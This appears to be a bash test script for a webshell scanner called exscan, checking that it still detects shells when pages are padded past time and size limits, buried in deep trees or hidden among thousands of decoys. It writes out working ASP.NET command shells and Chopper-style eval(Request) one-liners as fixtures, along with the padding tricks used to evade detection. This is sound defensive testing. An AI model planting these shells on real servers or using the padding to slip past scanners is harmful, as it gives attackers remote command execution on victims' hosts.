#!/usr/bin/env bash
# exscan walk against an attacker who knows it (issue 12): pages padded past
# the YARA deadline and past --max-size, a slow user rule, -o inside the tree,
# a tree deeper than the open-file limit, files that are not ours (O_NOATIME),
# and many decoy pages matching one rule.
. "$(dirname "$0")/tap.sh"
export XDG_CACHE_HOME="$TMP/cache"
chmod 755 "$TMP"

shell='<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %>
<script runat="server">void Page_Load(object s, EventArgs e) {
var p = new ProcessStartInfo("cmd.exe", "/c " + Request["c"]);
p.RedirectStandardOutput = true; p.UseShellExecute = false;
Response.Write(Process.Start(p).StandardOutput.ReadToEnd()); }</script>'
# pad FILE MB UNIT: appends MB megabytes of server comment made of UNIT
pad() {
	python3 - "$1" "$2" "$3" <<'PY'
import sys
unit = sys.argv[3].encode()
with open(sys.argv[1], "ab") as f:
    f.write(b"\n<%--\n")
    f.write(unit * (int(sys.argv[2]) * (1 << 20) // len(unit)))
    f.write(b"\n--%>\n")
PY
}
# finding PATH-SUFFIX KIND: true when $TMP/out has such a finding
has() { python3 - "$TMP/out" "$1" "$2" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
sys.exit(0 if any(f["path"].endswith(sys.argv[2]) and f["kind"] == sys.argv[3]
                  for h in d["hosts"] for f in h["findings"]) else 1)
PY
}

# --- 1. a command shell followed by 30 MB of `eval(`: the built-in rules are
# not slowed down by repeated atoms, and the shell is found
P="$TMP/pad"
mkdir -p "$P/inetpub/wwwroot"
printf '%s\n' "$shell" >"$P/inetpub/wwwroot/padded.aspx"
pad "$P/inetpub/wwwroot/padded.aspx" 30 'eval( '
t0=$(date +%s)
run "$EXSCAN" walk --format json --fail-on compromised "$P"
t1=$(date +%s)
expect_rc 1 "30 MB of eval( after a shell: compromised"
has padded.aspx webshell
tap_ok $? "30 MB of eval( after a shell: the shell is reported" "$(head -c 1500 "$TMP/out")"
[ $((t1 - t0)) -lt 30 ]
tap_ok $? "30 MB of eval( after a shell: scanned in $((t1 - t0)) s (< 30 s, no timeout)" "$(cat "$TMP/err")"
json_check "30 MB of eval( after a shell: no timeout, no error" \
	'd["hosts"][0]["stats"]["timeouts"] == 0 and d["hosts"][0]["stats"]["errors"] == 0'

# --- 1. past the deadline, what was found before is kept: a slow user rule
# makes the scan outlast --timeout 1
cat >"$TMP/slow.yar" <<'Y'
rule user_slow_gap { strings: $s = /eval\(\s[^;\n]{0,48}zq_never_there/ condition: $s }
Y
run timeout 120 "$EXSCAN" walk --format json --fail-on compromised --timeout 1 --rules "$TMP/slow.yar" "$P"
expect_rc 1 "past --timeout 1: the shell found before the deadline still makes it compromised"
has padded.aspx webshell
tap_ok $? "past --timeout 1: the shell's webshell findings are kept" "$(head -c 1500 "$TMP/out")"
json_check "past --timeout 1: the file is a timeout and an error (host incomplete)" \
	'd["hosts"][0]["stats"]["timeouts"] == 1 and any(f["kind"] == "error" and "stopped after 1 s" in f["description"] for f in d["hosts"][0]["findings"])'

# --- 2. a shell after 65 MB of comment, past the default --max-size (64M):
# head and tail are scanned, the shell is found at its true offset, the page
# is reported as oversized, and the host is incomplete
C="$TMP/cut"
mkdir -p "$C/inetpub/wwwroot"
printf '<%%@ Page Language="C#" %%>\n' >"$C/inetpub/wwwroot/long.aspx"
pad "$C/inetpub/wwwroot/long.aspx" 65 '// nothing to see here, move along '
off=$(stat -c %s "$C/inetpub/wwwroot/long.aspx")
printf '%s\n' "$shell" >>"$C/inetpub/wwwroot/long.aspx"
# not a server page (no page name, no <% in its head): head only, no finding
head -c $((66 << 20)) /dev/zero | tr '\0' 'x' >"$C/inetpub/wwwroot/blob.bin"
run "$EXSCAN" walk --format json --fail-on never "$C"
expect_rc 3 "65 MB of comment before a shell: the walk is incomplete (exit 3)"
json_check "65 MB of comment before a shell: the command shell is found in the tail, at its file offset" \
	"any(f['path'].endswith('long.aspx') and f['rule'] == 'exs_command_execution' and all(m['offset'] >= $off for m in f['matches']) for f in d['hosts'][0]['findings'])"
json_check "65 MB of comment before a shell: an oversized-server-page finding (warning), one page cut" \
	'any(f["path"].endswith("long.aspx") and f["rule"] == "oversized-server-page" and f["severity"] == "warning" for f in d["hosts"][0]["findings"]) and d["hosts"][0]["stats"]["server_pages_cut"] == 1 and d["hosts"][0]["stats"]["truncated"] == 2'
json_check "a large file that is not a server page: not cut, no finding" \
	'not any(f["path"].endswith("blob.bin") for f in d["hosts"][0]["findings"])'
grep -q "scanned in part" "$TMP/err"
tap_ok $? "65 MB of comment before a shell: stderr says the page was scanned in part" "$(cat "$TMP/err")"
cp "$TMP/out" "$TMP/cut.json"
run "$EXSCAN" report --format json --fail-on never "$TMP/cut.json"
expect_rc 3 "report of that walk: incomplete (exit 3)"
json_check "report of that walk: compromised and incomplete" \
	'd["hosts"][0]["verdict"] == "compromised" and d["hosts"][0]["incomplete"]'
rm -rf "$C" "$TMP/cut.json"

# --- 5. -o inside the tree being scanned is refused (walk and scan)
run "$EXSCAN" walk -o "$P/inetpub/report.json" "$P"
expect_rc 2 "walk -o inside the root: refused"
[ "$(wc -l <"$TMP/err")" -eq 1 ] && grep -q "is inside" "$TMP/err" && [ ! -e "$P/inetpub/report.json" ]
tap_ok $? "walk -o inside the root: one line, nothing written" "$(cat "$TMP/err")"
ln -s "$P/inetpub" "$TMP/via-link"
run "$EXSCAN" scan --fs "$P" -o "$TMP/via-link/r.json"
expect_rc 2 "scan -o inside a --fs root through a link: refused"
[ ! -e "$P/inetpub/r.json" ]
tap_ok $? "scan -o inside the root: nothing written" "$(cat "$TMP/err")"
run "$EXSCAN" scan --target "127.0.0.1=$P" -o "$P/../pad/x.json"
expect_rc 2 "scan --target HOST=ROOT with -o ROOT/../ROOT/x: refused"
run "$EXSCAN" walk --format json -o "$TMP/outside.json" "$P"
[ -s "$TMP/outside.json" ]
tap_ok $? "walk -o outside the root: written"

# --- 6. a tree 200 levels deep under `ulimit -n 64`: walked without one
# descriptor per level, the shell at the bottom found, no error
D="$TMP/deep"
mkdir -p "$D"
(
	cd "$D" || exit 1
	for _ in $(seq 1 200); do mkdir d && cd d || exit 1; done
	printf '%s\n' "$shell" >bottom.aspx
)
run bash -c 'ulimit -n 64 && exec "$0" walk --format json "$1"' "$EXSCAN" "$D"
expect_rc 1 "200 levels under ulimit -n 64: the shell makes it exit 1"
json_check "200 levels under ulimit -n 64: the shell at the bottom is found, 201 directories, no error" \
	'any(f["path"].endswith("/d/bottom.aspx") and f["path"].count("/") == 200 and f["kind"] == "webshell" for f in d["hosts"][0]["findings"]) and d["hosts"][0]["stats"]["directories"] == 201 and d["hosts"][0]["stats"]["errors"] == 0'
# siblings on the way back up are still walked (the closed levels are reopened)
(
	cd "$D" || exit 1
	for i in $(seq 1 150); do cd d || exit 1; [ $((i % 50)) -eq 0 ] && printf '%s\n' "$shell" >"side$i.aspx"; done
)
run bash -c 'ulimit -n 64 && exec "$0" walk --format json -j 1 "$1"' "$EXSCAN" "$D"
json_check "200 levels under ulimit -n 64: pages beside the path at levels 50, 100 and 150 are found too" \
	'sorted({f["path"].rsplit("/", 1)[1] for f in d["hosts"][0]["findings"] if f["kind"] == "webshell" and "side" in f["path"]}) == ["side100.aspx", "side150.aspx", "side50.aspx"] and d["hosts"][0]["stats"]["errors"] == 0'
rm -rf "$D"

# --- 3. files owned by someone else (as nobody): O_NOATIME is refused, so
# access times change: one warning line, once per run, and the stats say so
N="$TMP/notmine"
mkdir -p "$N/inetpub/wwwroot"
for i in 1 2 3; do printf '<%%@ Page Language="C#" %%>\n<p>page %s</p>\n' $i >"$N/inetpub/wwwroot/p$i.aspx"; done
chmod -R a+rX "$N"
touch -a -d '2001-02-03 04:05:06' "$N"/inetpub/wwwroot/*.aspx
if setpriv --reuid=nobody --regid=nogroup --clear-groups true 2>/dev/null; then
	run setpriv --reuid=nobody --regid=nogroup --clear-groups env HOME="$TMP" \
		XDG_CACHE_HOME="$TMP/nocache" "$EXSCAN" walk --format json --fail-on never "$N" "$N"
	expect_rc 0 "as nobody on root's files: the walk runs"
	[ "$(grep -c "access times will change" "$TMP/err")" -eq 1 ] && [ "$(wc -l <"$TMP/err")" -eq 1 ]
	tap_ok $? "as nobody: one warning line for two roots, saying how to avoid it" "$(cat "$TMP/err")"
	grep -q "run as their owner or root, or mount the tree read-only or with noatime" "$TMP/err"
	tap_ok $? "as nobody: the warning names the remedies" "$(cat "$TMP/err")"
	json_check "as nobody: stats.access_times_changed is true" \
		'all(h["stats"]["access_times_changed"] for h in d["hosts"])'
	run "$EXSCAN" walk --format json --fail-on never "$N"
	json_check "as root: access times kept, no warning" \
		'not d["hosts"][0]["stats"]["access_times_changed"]'
	[ ! -s "$TMP/err" ]
	tap_ok $? "as root: nothing on stderr" "$(cat "$TMP/err")"
else
	tap_skip "as nobody: O_NOATIME refused" "setpriv cannot drop to nobody here"
fi
# --- 4. a user's rule YARA finds slow: its compile-time warning is shown,
# one line, and does not make the run incomplete
cat >"$TMP/warn.yar" <<'Y'
rule user_slow_atom { strings: $s = /a[^;]{0,64}b/ condition: $s }
Y
run "$EXSCAN" walk --format json --fail-on never --no-rules-cache --rules "$TMP/warn.yar" "$N"
expect_rc 0 "a slow user rule: a warning only (exit 0)"
grep -q "^exscan walk: warning: .*warn.yar:1: .*slow.*user_slow_atom" "$TMP/err" && [ "$(wc -l <"$TMP/err")" -eq 1 ]
tap_ok $? "a slow user rule: YARA's slow warning is shown in one line naming the rule" "$(cat "$TMP/err")"
run "$EXSCAN" walk --format json --fail-on never --rules "$TMP/warn.yar" "$N"
run "$EXSCAN" walk --format json --fail-on never --rules "$TMP/warn.yar" "$N"
grep -q "warn.yar:1: .*slow" "$TMP/err"
tap_ok $? "a slow user rule: the warning is shown again when the rules come from the cache" "$(cat "$TMP/err")"

# ... and a file on which it is slow: bounded by --timeout (libyara's own
# check ends the block), reported as timed out, naming the rule
S="$TMP/slowfile"
mkdir -p "$S/inetpub"
head -c $((8 << 20)) /dev/zero | tr '\0' 'a' >"$S/inetpub/aaaa.aspx"
t0=$(date +%s)
run timeout 120 "$EXSCAN" walk --format json --fail-on never --timeout 1 --rules "$TMP/warn.yar" "$S"
t1=$(date +%s)
expect_rc 3 "a slow user rule on 8 MB of 'a': incomplete (exit 3)"
[ $((t1 - t0)) -lt 20 ]
tap_ok $? "a slow user rule on 8 MB of 'a': bounded by --timeout 1 ($((t1 - t0)) s, < 20 s)"
json_check "a slow user rule on 8 MB of 'a': timed out, naming the rule" \
	'd["hosts"][0]["stats"]["timeouts"] == 1 and any(f["kind"] == "error" and "user_slow_atom" in f["description"] for f in d["hosts"][0]["findings"])'
rm -rf "$S"

# --- 7. 3,000 decoy pages matching one rule in one folder: the first 1,000
# are listed, the rest folded into one finding with their count
M="$TMP/many"
mkdir -p "$M/inetpub/decoys"
python3 - "$M/inetpub/decoys" <<'PY'
import os, sys
for i in range(3000):
    with open(os.path.join(sys.argv[1], "p%d.aspx" % i), "w") as f:
        f.write('<%%@ Page Language="Jscript"%%><%%eval(Request.Item["d%d"],"unsafe");%%>\n' % i)
PY
run "$EXSCAN" walk --format json --fail-on compromised -j 2 "$M"
expect_rc 1 "3,000 decoys: compromised"
json_check "3,000 decoys: at most 2 x 1,000 listed per rule (one limit per worker), the rest counted in one folded finding" \
	'(lambda F: 1000 <= len([f for f in F if f["rule"] == "exs_chopper_eval_request" and "count" not in f]) <= 2000 and len([f for f in F if f["rule"] == "exs_chopper_eval_request" and "count" in f]) == 1 and len([f for f in F if f["rule"] == "exs_chopper_eval_request" and "count" not in f]) + sum(f.get("count", 0) for f in F if f["rule"] == "exs_chopper_eval_request") == 3000)(d["hosts"][0]["findings"])'
run "$EXSCAN" walk --format json --fail-on compromised -j 1 "$M"
json_check "3,000 decoys, one worker: exactly 1,000 listed and one finding counting 2,000 at the folder, score kept" \
	'(lambda F: len([f for f in F if "count" not in f]) == 1000 and [(f["path"], f["count"], f["score"]) for f in F if "count" in f] == [("inetpub/decoys", 2000, 95)])([f for f in d["hosts"][0]["findings"] if f["rule"] == "exs_chopper_eval_request"])'
json_check "3,000 decoys, one worker: each listed finding still has its file type (worked out after the folding)" \
	'all(f.get("filetype") for f in d["hosts"][0]["findings"] if f["kind"] == "webshell" and "count" not in f)'
rm -rf "$M"
# --- 8. every built-in rule stays linear in padding made of its own atoms
# (a rule whose regex YARA verifies backwards from a common word cost 2-7 s a
# MB): 8 MB of each after a shell, found with no timeout and no error.  (8 MB
# of `<% x ` costs about 1 s a MB, linearly: every rule that starts at `<%`
# verifies each copy; bench/README.md, not a test.)
for unit in 'eval( Request ' 'Request ' '<script ' 'Response.Write(' 'System.'; do
	P8="$TMP/pad8"
	rm -rf "$P8"
	mkdir -p "$P8/inetpub/wwwroot"
	printf '%s\n' "$shell" >"$P8/inetpub/wwwroot/padded.aspx"
	pad "$P8/inetpub/wwwroot/padded.aspx" 8 "$unit"
	run "$EXSCAN" walk --format json --fail-on compromised --timeout 20 "$P8"
	expect_rc 1 "8 MB of '$unit' after a shell: compromised"
	json_check "8 MB of '$unit' after a shell: no timeout, no error" \
		'd["hosts"][0]["stats"]["timeouts"] == 0 and d["hosts"][0]["stats"]["errors"] == 0'
done

# --- 9. a --rules rule that makes libyara give up on a page (too many regex
# fibers: libyara then reports no match at all) does not cost the built-in
# rules: they look at the page again alone, and the error says why
P9="$TMP/fibers"
mkdir -p "$P9/inetpub/wwwroot"
{ printf '%s\n' "$shell"; head -c 2000000 /dev/zero | tr '\0' a; } >"$P9/inetpub/wwwroot/fibers.aspx"
cat >"$TMP/fibers.yar" <<'Y'
rule user_fiber_hungry { strings: $a = /a[a-z]{0,200}[a-z]{0,200}[a-z]{0,200}q/ condition: $a }
Y
run "$EXSCAN" walk --format json --fail-on compromised --rules "$TMP/fibers.yar" "$P9"
expect_rc 1 "a user rule libyara gives up on: the shell still makes the host compromised"
has fibers.aspx webshell
tap_ok $? "a user rule libyara gives up on: the built-in findings are reported" "$(head -c 1500 "$TMP/out")"
json_check "a user rule libyara gives up on: one error naming the cause and the fallback" \
	'[f["description"] for f in d["hosts"][0]["findings"] if f["kind"] == "error" and "regular expression" in f["description"] and "built-in rules were run on it alone" in f["description"]] != []'
grep -q "libyara error 46" "$TMP/out"
tap_ok $((!$?)) "a user rule libyara gives up on: no bare libyara error number"

# --- 10. server code padded past what the second look reads (4 MiB of
# normalised code, not comment): the raw rules still find the shell, and the
# page is reported as judged in part (the host is incomplete)
P10="$TMP/bigcode"
mkdir -p "$P10/inetpub/wwwroot"
python3 - "$P10/inetpub/wwwroot/bigcode.aspx" <<'PY'
import sys
body = 'string q = "a" + eval("b"); Request.Cookies.Clear();\n' * ((6 << 20) // 50)
shell = ('void Page_Load(object s, EventArgs e) {\n var p = new System.Diagnostics.'
         'ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]);\n'
         ' System.Diagnostics.Process.Start(p);\n}\n')
open(sys.argv[1], "w").write('<%@ Page Language="C#" %>\n<script runat="server">\n'
                             + body + shell + '</script>\n')
PY
run "$EXSCAN" walk --format json --fail-on compromised "$P10"
expect_rc 1 "6 MB of server code before a shell: compromised"
json_check "6 MB of server code before a shell: the page is reported as judged in part" \
	'any(f["kind"] == "error" and "normalises to more than" in f["description"] for f in d["hosts"][0]["findings"]) and d["hosts"][0]["stats"]["errors"] >= 1'

tap_done
